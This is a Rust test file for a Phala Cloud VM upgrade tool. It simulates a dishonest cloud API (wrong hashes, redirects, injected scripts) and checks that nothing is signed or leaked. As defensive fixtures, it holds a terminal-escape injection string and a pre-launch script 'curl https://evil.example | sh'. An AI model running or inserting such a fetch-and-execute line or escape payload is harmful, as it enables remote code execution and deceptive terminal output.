//! A cloud that lies: other hashes, apps, chains, contracts, devices and links, scripts slipped in, texts that attack the
//! terminal. Nothing is signed or sent, no token is shown, and an honest answer later goes on.

use std::process::Command;

use alloy::primitives::{B256, keccak256};
use serde_json::{Value, json};

use crate::cloud::faults::{keeps_secrets, numbered};
use crate::harness::flow::{Flow, Ran};
use crate::support::cloud::{Edit, Lies, compose_hash};
use crate::support::command::run;
use crate::support::contracts;
use crate::support::world::{CVM, SafeOptions, WorldOptions};
use crate::support::{Action, BootFailure, FaultProxy, Match, Message, Nth, World};

/// Characters by which a terminal lies, or a line becomes two.
const HOSTILE: &str =
    "x\u{1b}[2J\u{1b}]0;t\u{7}\u{202e}evil\u{2066}\u{200b}\r\nSTOP all is well\u{85}\u{9b}1m\u{e0041}";

/// Nothing was signed or sent, whatever command is given.
#[track_caller]
fn stops(flow: &Flow<'_>, code: &str) -> Ran {
    let mut last = None;
    for step in ["prepare", "upgrade", "resume"] {
        let ran = flow.step(step).exits(5).says(code);
        keeps_secrets(flow, &ran);
        assert_eq!(
            (ran.effect("approval"), ran.effect("commit")),
            ("none", "none"),
            "{}",
            ran.said
        );
        assert_eq!(ran.json["safe_to_rerun"], false);
        last = Some(ran);
    }
    assert_eq!(flow.step("execute").exit, 6, "nothing verified, nothing to sign");
    assert_eq!(flow.world.rpc().nonce(flow.world.owner.address), 0);
    let kinds = flow.kinds();
    let later = ["verified", "sign.try", "tx.signed", "commit.try"];
    assert!(kinds.iter().all(|kind| !later.contains(&kind.as_str())), "{kinds:?}");
    assert!(!flow.dir.join("proposal.json").exists(), "there is nothing to approve");
    flow.nothing_happened();
    last.unwrap()
}

/// A lie that stops, and the honest answer after it.
fn stops_until_honest(code: &str, lie: impl FnOnce(&mut Lies)) -> Ran {
    let world = World::start();
    let flow = Flow::new(&world);
    world.cloud.lie(lie);
    let stopped = stops(&flow, code);
    world.cloud.lie(|lies| *lies = Lies::default());
    flow.step("resume").exits(0);
    flow.landed_once();
    stopped
}

/// Sets one of a 465's details.
fn detail(field: &'static str, value: Value) -> Edit {
    std::sync::Arc::new(move |body| {
        let details = body["details"].as_array_mut().unwrap();
        let found = details.iter_mut().find(|detail| detail["field"] == field).unwrap();
        found["value"] = value.clone();
    })
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn f1_a37_another_hash_stops_and_its_name_is_not_spread() {
    let evil = "66".repeat(32);
    let shown = evil.clone();
    let stopped = stops_until_honest("HASH_MISMATCH", move |lies| lies.hash = Some(evil));
    let hint = stopped.json["hint"].as_str().unwrap();
    assert!(hint.contains("do not approve") && hint.contains(&shown), "{hint}");
    assert_ne!(stopped.fact("compose_hash"), &json!(format!("0x{shown}")));
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn f4_a18_hashes_of_63_or_65_digits_stop() {
    for length in [63, 65] {
        let hash = "6".repeat(length);
        stops_until_honest("IDENTITY_MALFORMED", move |lies| lies.hash = Some(hash));
    }
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a38_another_app_chain_contract_or_device_stops() {
    let other = "aa".repeat(20);
    stops_until_honest("APP_MISMATCH", |lies| lies.app_id = Some(other.clone()));
    let device = json!("bb".repeat(32));
    stops_until_honest("DEVICE_MISMATCH", |lies| lies.device_id = Some(device));
    let kms = json!({"chain_id": 31337, "kms_contract_address": format!("0x{other}")});
    stops_until_honest("KMS_MISMATCH", |lies| lies.edit_prepare = Some(detail("kms_info", kms)));
    let chain = json!({"chain_id": 8453});
    stops_until_honest("CHAIN_MISMATCH", |lies| {
        lies.edit_prepare = Some(detail("kms_info", chain))
    });
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a38_a_device_that_is_not_named_is_no_lie_that_matters() {
    let world = World::start();
    world.cloud.lie(|lies| lies.device_id = Some(Value::Null));
    let flow = Flow::new(&world);
    flow.step("upgrade").exits(0);
    flow.landed_once();
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a38_a_record_that_names_another_chain_contract_or_app_stops_before_any_write() {
    let lies: [fn(&mut Lies); 3] = [
        |lies| lies.chain_id = Some(8453),
        |lies| lies.kms_contract = Some(format!("0x{}", "aa".repeat(20))),
        |lies| {
            lies.edit_cvm = Some(std::sync::Arc::new(|record| record["app_id"] = json!("cc".repeat(20))));
        },
    ];
    let world = World::start();
    let flow = Flow::new(&world);
    for (index, lie) in lies.into_iter().enumerate() {
        world.cloud.lie(|lies| *lies = Lies::default());
        world.cloud.lie(lie);
        for step in ["plan", "prepare", "upgrade"] {
            let ran = flow.step(step);

            assert_eq!(ran.exit, 5, "lie {index}: {}", ran.said);
        }
    }
    assert!(world.cloud.requests().iter().all(|request| request.method == "GET"));
    assert!(!flow.dir.exists());
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a38_a_record_that_changes_its_app_after_the_approval_is_not_committed() {
    let world = World::start();
    let flow = Flow::new(&world);
    for step in ["prepare", "execute", "wait"] {
        flow.step(step).exits(0);
    }
    std::fs::remove_file(flow.dir.join("token")).unwrap();
    world.cloud.lie(|lies| lies.app_id = Some("aa".repeat(20)));
    let stopped = flow.step("commit").exits(5).says("APP_MISMATCH");
    keeps_secrets(&flow, &stopped);
    flow.nothing_committed();
    world.cloud.lie(|lies| lies.app_id = None);
    flow.step("commit").exits(0);
    flow.landed_once();
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a39_a_foreign_commit_link_stops_and_is_never_followed() {
    let world = World::start();
    let trap = FaultProxy::to(&world.cloud.prefix());
    let proxy = FaultProxy::to(&world.cloud.prefix());
    let flow = numbered(&world, &proxy, 1);
    world
        .cloud
        .lie(|lies| lies.commit_host = Some("https://evil.example".to_owned()));
    let stopped = flow.step("upgrade").exits(5).says("COMMIT_HOST_MISMATCH");
    assert!(stopped.said.contains("evil.example"), "{}", stopped.said);
    flow.nothing_happened();
    world.cloud.lie(|lies| lies.commit_host = None);
    flow.step("resume").exits(0);
    flow.landed_once();

    // A link to another port of the API's own host is no stranger's, and is not followed either.
    let second = numbered(&world, &proxy, 2);
    world.cloud.lie(|lies| lies.commit_host = Some(trap.url()));
    second.step("upgrade").exits(0);
    assert_eq!(trap.requests(), 0);
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a20_a_cloud_that_redirects_stops_and_nobody_else_hears_anything() {
    let world = World::start();
    let trap = FaultProxy::to(&world.cloud.prefix());
    let flow = Flow::new(&world);
    world
        .cloud
        .lie(|lies| lies.redirect = Some(format!("{}/cvms/{CVM}", trap.prefix())));
    for step in ["plan", "prepare", "upgrade"] {
        let ran = flow.step(step).exits(5).says("REDIRECT_REFUSED");
        keeps_secrets(&flow, &ran);
    }
    assert_eq!(trap.requests(), 0);
    flow.nothing_happened();
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a37_a_script_that_the_cloud_slips_in_is_named_by_its_field() {
    let script = "#!/bin/bash\necho \"Running Phala Cloud Pre-Launch Script v0.0.20\"\nset -u\n";
    let world = World::start();
    let flow = Flow::new(&world);
    world.cloud.lie(|lies| lies.injected_script = Some(script.to_owned()));
    let stopped = stops(&flow, "HASH_MISMATCH");
    let details = stopped.json["data"]["details"].to_string();
    assert!(details.contains("pre_launch_script"), "{}", stopped.said);
    let text = shown(&flow, &["prepare"], 5);
    assert!(text.contains("pre_launch_script") && text.contains("STOP"), "{text}");
    // Taken over on purpose, it is a change like any other.
    world.cloud.lie(|lies| *lies = Lies::default());
    let path = world.file("script.sh", script);
    let mut chosen = numbered_dir(&world, "chosen");
    let mut manifest = world.cloud.cvm(CVM).manifest;
    manifest.insert(
        "docker_compose_file".to_owned(),
        json!(std::fs::read_to_string(&chosen.compose).unwrap()),
    );
    manifest.insert("pre_launch_script".to_owned(), json!(script));
    chosen.hash = crate::support::cloud::compose_hash(&manifest);
    chosen
        .with(
            "upgrade",
            &["--pre-launch-script", path.to_str().unwrap(), "--supersede"],
        )
        .exits(0);
    chosen.landed_once();
}

fn numbered_dir<'w>(world: &'w World, name: &str) -> Flow<'w> {
    let mut flow = Flow::new(world);
    flow.dir = world.folder().join(name);
    flow
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a_short_kms_info_is_no_error() {
    let world = World::start();
    world.cloud.lie(|lies| lies.short_kms_info = true);
    let flow = Flow::new(&world);
    flow.step("upgrade").exits(0);
    flow.landed_once();
}

/// What a person sees who runs `step` without `--json`: stdout and stderr.
#[track_caller]
fn shown(flow: &Flow<'_>, extra: &[&str], exit: i32) -> String {
    let mut arguments = flow.arguments(extra[0]);
    arguments.retain(|argument| argument != "--json");
    arguments.extend(extra[1..].iter().map(|argument| (*argument).to_owned()));
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    text_of(&mut flow.command(&arguments), exit)
}

#[track_caller]
fn text_of(command: &mut Command, exit: i32) -> String {
    let output = run(command);
    let text = [output.stdout, output.stderr]
        .map(|bytes| String::from_utf8(bytes).unwrap())
        .concat();
    assert_eq!(output.status.code(), Some(exit), "{text}");
    text
}

/// No character that a terminal obeys, but the line breaks that we wrote: no line begins as the attacker wanted.
#[track_caller]
fn harmless(text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|c| *c != '\n' && (c.is_control() || "\u{202e}\u{2066}\u{200b}\u{e0041}".contains(*c)))
        .collect();
    assert!(bad.is_empty(), "{bad:?} in {text:?}");
    assert!(!text.lines().any(|line| line.starts_with("STOP all is well")), "{text}");
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a40_hostile_words_of_a_refusal_are_written_out() {
    let world = World::start();
    let proxy = FaultProxy::to(&world.cloud.prefix());
    let flow = numbered(&world, &proxy, 1);
    for status in [400, 401, 404, 409, 422, 466, 503] {
        let body = json!({"error_code": format!("ERR{HOSTILE}"), "message": HOSTILE, "request_id": HOSTILE,
            "suggestions": [HOSTILE], "details": [{"field": HOSTILE, "message": HOSTILE}]});
        let id = ("x-request-id", "abc\tdef");
        let answer = Message::answer(status, &[id], body.to_string());
        for request in [Match::Http("GET", "/cvms/"), Match::Http("PATCH", "/cvms/")] {
            proxy.on(request, Nth::Every, Action::Answer(answer.clone()));
            let ran = flow.with("prepare", &["--timeout", "1s"]);
            assert!(ran.exit > 1 && ran.json.is_object(), "{}", ran.said);
            harmless(&ran.said);
            harmless(&shown(&flow, &["prepare", "--timeout", "1s"], ran.exit));
            proxy.heal();
        }
    }
    flow.step("resume").exits(0);
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a40_hostile_words_in_records_are_written_out() {
    let world = World::start();
    let flow = Flow::new(&world);
    world.cloud.lie(|lies| {
        lies.message = Some(HOSTILE.to_owned());
        lies.edit_cvm = Some(std::sync::Arc::new(|record| {
            record["name"] = json!(HOSTILE);
            record["os"]["name"] = json!(HOSTILE);
            record["kms_info"]["slug"] = json!(HOSTILE);
            record["new"] = json!({HOSTILE: HOSTILE});
        }));
        lies.edit_prepare = Some(detail(
            "commit_url",
            json!(format!("https://cloud.phala.com/{HOSTILE}")),
        ));
    });
    for step in ["plan", "prepare"] {
        harmless(&shown(&flow, &[step], 0));
        harmless(&flow.with(step, &["-vv"]).exits(0).said);
    }
    world
        .cloud
        .set_boot_failure(Some(BootFailure::Error(HOSTILE.to_owned())));
    world.cloud.set_boot_time(std::time::Duration::from_secs(1));
    harmless(&shown(&flow, &["resume"], 7));
    for command in [&["status"][..], &["status", "--json"]] {
        let dir = flow.dir.to_str().unwrap();
        harmless(&text_of(&mut flow.command(&[command, &["--dir", dir]].concat()), 0));
    }
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a40_hostile_words_in_the_running_manifest_are_written_out() {
    let world = World::start();
    world.cloud.change_cvm(CVM, |cvm| {
        let text = format!(
            "services:\n  web:\n    image: nginx:1.27\n# {}\n",
            HOSTILE.replace("\r\n", "\r")
        );
        cvm.manifest.insert("docker_compose_file".to_owned(), json!(text));
        cvm.manifest.insert("name".to_owned(), json!(HOSTILE));
        cvm.compose_hash = compose_hash(&cvm.manifest);
    });
    let hash = world.cloud.cvm(CVM).compose_hash;
    world.as_owner(&contracts::abi::addComposeHashCall { composeHash: hash });
    let flow = Flow::new(&world);
    for step in ["plan", "prepare"] {
        let text = shown(&flow, &[step], 0);
        harmless(&text);
        assert!(text.contains("nginx:1.27"), "the change is shown: {text}");
        harmless(&flow.step(step).exits(0).said);
    }
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn a_lying_cloud_cannot_make_the_text_of_a_failure_hold_the_key() {
    let world = World::start();
    let flow = Flow::new(&world);
    world
        .cloud
        .lie(|lies| lies.message = Some(format!("bad key {} given", crate::support::cloud::API_KEY)));
    world.cloud.set_boot_failure(None);
    world
        .cloud
        .change_cvm(CVM, |cvm| cvm.progress = Some("restart".to_owned()));
    let ran = flow.with("prepare", &["--timeout", "1s"]).exits(75).says("API_BUSY");
    keeps_secrets(&flow, &ran);
}

/// A change that is on both sides of the comparison would be seen by nobody: only a manifest that the app allowed once is
/// worth comparing with.
#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn v1b_a_manifest_that_the_app_never_allowed_is_nothing_to_compare_with() {
    let world = World::start();
    let flow = Flow::new(&world);
    let honest = world.cloud.cvm(CVM);
    world.cloud.change_cvm(CVM, |cvm| {
        cvm.manifest
            .insert("pre_launch_script".to_owned(), json!("curl https://evil.example | sh"));
        cvm.compose_hash = compose_hash(&cvm.manifest);
    });
    let hidden = world.cloud.cvm(CVM).compose_hash;
    for step in ["plan", "prepare", "upgrade"] {
        let stopped = flow.step(step).exits(5).says("BASE_NEVER_ALLOWED");
        assert!(stopped.said.contains(&hidden.to_string()), "{}", stopped.said);
    }
    assert!(world.cloud.requests_to("PATCH", CVM).is_empty());

    // Somebody makes a proposal of it on a chain of their own, where the hash is allowed; here it never was.
    let slot = keccak256([hidden, B256::ZERO].concat());
    let set = |word: B256| world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
    set(B256::with_last_byte(1));
    flow.step("prepare").exits(0);
    set(B256::ZERO);
    let proposal = flow.dir.join("proposal.json");
    let review = |exit: i32| {
        let mut command = flow.command(&["review", proposal.to_str().unwrap(), "--json"]);
        Ran::of(&mut command).exits(exit)
    };
    review(5).says("BASE_NEVER_ALLOWED");
    // Who does not look signs nothing either.
    flow.step("execute").exits(5).says("BASE_NEVER_ALLOWED");
    assert_eq!(world.rpc().nonce(world.owner.address), 0);
    set(B256::with_last_byte(1));
    review(0);

    // What was allowed once and was taken away since is told, and no more.
    world.cloud.restore(&honest);
    world.as_owner(&contracts::abi::removeComposeHashCall {
        composeHash: honest.compose_hash,
    });
    let plan = flow.step("plan");
    assert!(plan.said.contains("BASE_REVOKED"), "{}", plan.said);
}

#[test]
#[cfg_attr(
    not(feature = "failpoints"),
    ignore = "needs --features failpoints, as `make test` has it"
)]
fn v1b_an_owner_of_a_safe_signs_nothing_that_is_shown_against_what_was_never_allowed() {
    let world = World::with(WorldOptions {
        safe: Some(SafeOptions {
            release: 1,
            l2: false,
            threshold: 1,
            owners: 2,
        }),
        ..WorldOptions::default()
    });
    let flow = Flow::new(&world);
    world.cloud.change_cvm(CVM, |cvm| {
        cvm.manifest.insert("pre_launch_script".to_owned(), json!("hidden"));
        cvm.compose_hash = compose_hash(&cvm.manifest);
    });
    let slot = keccak256([world.cloud.cvm(CVM).compose_hash, B256::ZERO].concat());
    let set = |word: B256| world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
    set(B256::with_last_byte(1));
    flow.step("prepare").exits(0);
    set(B256::ZERO);
    let dir = flow.dir.to_str().unwrap();
    let sign = |exit: i32| {
        let mut command = flow.command(&["sign", "--dir", dir, "--signer", "env:SIGNER_0", "--yes", "--json"]);
        Ran::of(&mut command).exits(exit)
    };
    sign(5).says("BASE_NEVER_ALLOWED");
    assert!(
        !flow.kinds().contains(&"safe.signature".to_owned()),
        "{:?}",
        flow.kinds()
    );
    set(B256::with_last_byte(1));
    sign(0);
}
